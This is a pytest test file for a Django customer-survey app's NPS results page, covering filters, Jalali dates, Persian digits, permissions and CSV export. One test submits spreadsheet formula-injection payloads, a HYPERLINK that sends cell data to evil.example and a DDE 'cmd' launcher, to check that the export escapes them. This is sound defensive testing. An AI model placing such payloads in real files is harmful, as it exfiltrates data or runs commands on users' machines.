"""The manager's survey page: NPS, response rate, latest reasons, filters and the CSV export."""

import csv
import datetime
import io

import jdatetime
import pytest
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext as _

from surveys import selectors
from surveys.models import SurveyInvitation
from tests.core.formulas import FORMULAS, opens_a_formula
from tests.factories import SegmentFactory
from tests.surveys.factories import InvitationFactory, SurveyCustomerFactory, SurveyResponseFactory
from tests.text import downloaded

pytestmark = pytest.mark.django_db

URL = reverse("surveys:results")


def _at(day: datetime.date) -> datetime.datetime:
    return timezone.make_aware(datetime.datetime.combine(day, datetime.time(12, 0)))


def _jalali(day: datetime.date) -> str:
    jday = jdatetime.date.fromgregorian(date=day)
    return f"{jday.year}/{jday.month:02d}/{jday.day:02d}"


def _answer(customer, score: int, *, reason: str = "", day: datetime.date | None = None, minute: int = 0):
    when = _at(day or timezone.localdate()) + datetime.timedelta(minutes=minute)
    invitation = InvitationFactory(customer=customer, sent_at=when - datetime.timedelta(hours=1))
    return SurveyResponseFactory(invitation=invitation, score=score, reason=reason, answered_at=when)


@pytest.fixture
def vip():
    return SegmentFactory(name="VIP")


@pytest.fixture
def answers(rep, other_rep, vip):
    """Two promoters, a passive and a detractor, plus one invitation nobody answered."""
    mine_vip = SurveyCustomerFactory(name="آرش", owner=rep, segment=vip)
    mine = SurveyCustomerFactory(name="بهار", owner=rep)
    theirs = SurveyCustomerFactory(name="پویا", owner=other_rep, segment=vip)
    silent = SurveyCustomerFactory(name="ترانه", owner=other_rep)
    InvitationFactory(customer=silent)
    return {
        "promoter_vip": _answer(mine_vip, 10, reason="ارسال سریع", minute=1),
        "promoter": _answer(mine, 9, reason="کیفیت خوب", minute=2),
        "passive": _answer(theirs, 7, reason="قیمت بالا", minute=3),
        "detractor": _answer(theirs, 2, reason="پاسخگو نبودند", minute=4),
    }


def test_nps_is_percent_promoters_minus_percent_detractors(answers):
    summary = selectors.nps_summary()
    assert (summary.responses, summary.promoters, summary.passives, summary.detractors) == (4, 2, 1, 1)
    assert (summary.promoter_percent, summary.passive_percent, summary.detractor_percent) == (50.0, 25.0, 25.0)
    assert summary.score == 25


def test_nps_ranges_from_minus_100_to_100(rep):
    customer = SurveyCustomerFactory(owner=rep)
    _answer(customer, 0)
    assert selectors.nps_summary().score == -100
    SurveyInvitation.objects.all().delete()
    _answer(customer, 10)
    assert selectors.nps_summary().score == 100


def test_without_responses_there_is_no_nps_rather_than_zero():
    summary = selectors.nps_summary()
    assert (summary.score, summary.response_rate, summary.promoter_percent) == (None, 0.0, 0.0)


def test_response_rate_is_answered_over_sent_invitations(answers, rep):
    InvitationFactory(customer=SurveyCustomerFactory(owner=rep), sent_at=None)  # never sent: not counted
    summary = selectors.nps_summary()
    assert (summary.answered, summary.invitations, summary.response_rate) == (4, 5, 80.0)


def test_the_page_shows_the_figures_and_the_latest_reasons(manager_client, en_client, answers):
    response = manager_client.get(URL)
    assert response.status_code == 200
    assert response.context["summary"].score == 25
    assert list(response.context["responses"]) == [
        answers[key] for key in ("detractor", "passive", "promoter", "promoter_vip")
    ]
    html = response.content.decode()
    for reason in ("ارسال سریع", "کیفیت خوب", "قیمت بالا", "پاسخگو نبودند"):
        assert reason in html
    figures = html[html.index('data-testid="nps-summary"') : html.index('data-testid="responses"')]
    assert '<div class="value">50%</div>' in figures and '<div class="value">25%</div>' in figures
    assert '<div class="value">80%</div>' in figures and "4 of 5 answered" in figures


def test_the_page_speaks_persian_digits_in_persian(manager_client, answers):
    html = manager_client.get(URL).content.decode()
    assert '<div class="value">۸۰٪</div>' in html
    with translation.override("fa"):
        assert _("%(answered)s of %(sent)s answered") % {"answered": "۴", "sent": "۵"} in html


def test_filtering_by_segment(manager_client, answers, vip):
    response = manager_client.get(URL, {"segment": vip.pk})
    assert set(response.context["responses"]) == {answers["promoter_vip"], answers["passive"], answers["detractor"]}
    summary = response.context["summary"]
    assert (summary.responses, summary.score, summary.invitations) == (3, 0, 3)


def test_filtering_by_rep(manager_client, answers, rep, other_rep):
    mine = manager_client.get(URL, {"rep": rep.pk})
    assert set(mine.context["responses"]) == {answers["promoter_vip"], answers["promoter"]}
    assert mine.context["summary"].score == 100
    theirs = manager_client.get(URL, {"rep": other_rep.pk}).context["summary"]
    assert (theirs.responses, theirs.score, theirs.invitations, theirs.response_rate) == (2, -50, 3, 66.7)


def test_filtering_by_a_jalali_date_range_typed_with_slashes_includes_both_ends(manager_client, rep):
    today = timezone.localdate()
    days = {name: today - datetime.timedelta(days=ago) for name, ago in (("old", 40), ("start", 20), ("end", 10))}
    customer = SurveyCustomerFactory(owner=rep)
    old = _answer(customer, 10, day=days["old"])
    first = _answer(customer, 3, day=days["start"])
    last = _answer(customer, 8, day=days["end"])
    _answer(customer, 9, day=days["end"] + datetime.timedelta(days=1))
    response = manager_client.get(URL, {"start": _jalali(days["start"]), "end": _jalali(days["end"])})
    assert response.context["form"].errors == {}
    assert list(response.context["responses"]) == [last, first]
    summary = response.context["summary"]
    assert (summary.responses, summary.invitations) == (2, 2)
    assert old not in response.context["responses"]


def test_jalali_dates_with_persian_digits_are_read_too(manager_client, rep):
    today = timezone.localdate()
    answer = _answer(SurveyCustomerFactory(owner=rep), 9, day=today)
    _answer(SurveyCustomerFactory(owner=rep), 9, day=today - datetime.timedelta(days=3))
    typed = _jalali(today).translate(str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹"))
    assert list(manager_client.get(URL, {"start": typed}).context["responses"]) == [answer]


def test_an_end_before_the_start_is_shown_as_an_error(manager_client, answers):
    today = timezone.localdate()
    response = manager_client.get(URL, {"start": _jalali(today), "end": _jalali(today - datetime.timedelta(days=1))})
    assert response.status_code == 200
    with translation.override("fa"):
        expected = translation.gettext("The end is before the start.")
        assert response.context["form"].errors["end"] == [expected]
    assert expected in response.content.decode()


def test_a_nonsense_date_is_an_error_not_a_crash(manager_client, answers):
    response = manager_client.get(URL, {"start": "1405/13/40"})
    assert response.status_code == 200
    assert "start" in response.context["form"].errors


def _csv_rows(response) -> list[list[str]]:
    text = downloaded(response)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_export_has_a_bom_a_header_and_one_row_per_response(manager_client, answers):
    response = manager_client.get(URL, {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"]
    rows = _csv_rows(response)
    assert rows[0] == ["answered", "customer", "mobile", "owner", "survey", "score", "category", "reason", "buy_again"]
    assert len(rows) == 5
    detractor = answers["detractor"]
    assert rows[1][1:8] == [
        detractor.customer.name,
        detractor.customer.mobile,
        "rep2",
        "relationship",
        "2",
        "detractor",
        "پاسخگو نبودند",
    ]


def test_csv_export_follows_the_filters(manager_client, answers, rep):
    rows = _csv_rows(manager_client.get(URL, {"format": "csv", "rep": rep.pk}))
    assert sorted(row[5] for row in rows[1:]) == ["10", "9"]


@pytest.mark.parametrize(("typed", "written"), FORMULAS.items(), ids=repr)
def test_no_cell_of_the_survey_export_runs_as_a_formula(manager_client, rep, typed, written):
    _answer(SurveyCustomerFactory(name=typed, owner=rep), 2, reason=typed)
    rows = _csv_rows(manager_client.get(URL, {"format": "csv"}))
    [row] = rows[1:]
    assert (row[1], row[5], row[7]) == (written, "2", written)  # the score stays a number
    assert not any(opens_a_formula(cell) for row in rows for cell in row)


def test_a_formula_typed_on_the_public_survey_page_reaches_no_export_alive(client, manager_client, sent):
    """The customer's reason and the friend they refer both come from outside the company."""
    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    client.post(
        sent.path,
        {"score": "3", "reason": hyperlink, "referral_name": "+cmd|' /C calc'!A0", "referral_mobile": "09125551234"},
    )

    [answer] = _csv_rows(manager_client.get(URL, {"format": "csv"}))[1:]
    assert answer[7] == "'" + hyperlink
    customers = _csv_rows(manager_client.get(reverse("customers:export")))
    referred = next(row for row in customers if row[1] == "09125551234")
    assert referred[0] == "'+cmd|' /C calc'!A0"
    assert not any(opens_a_formula(cell) for row in customers for cell in row)


def test_reps_cannot_see_survey_results_or_export_them(rep_client, answers):
    assert rep_client.get(URL).status_code == 403
    assert rep_client.get(URL, {"format": "csv"}).status_code == 403


def test_the_results_page_query_count_does_not_grow_with_responses(
    manager_client, answers, rep, django_assert_max_num_queries
):
    for _number in range(10):
        _answer(SurveyCustomerFactory(owner=rep), 6, reason="دیر")
    with django_assert_max_num_queries(15):
        assert manager_client.get(URL).status_code == 200
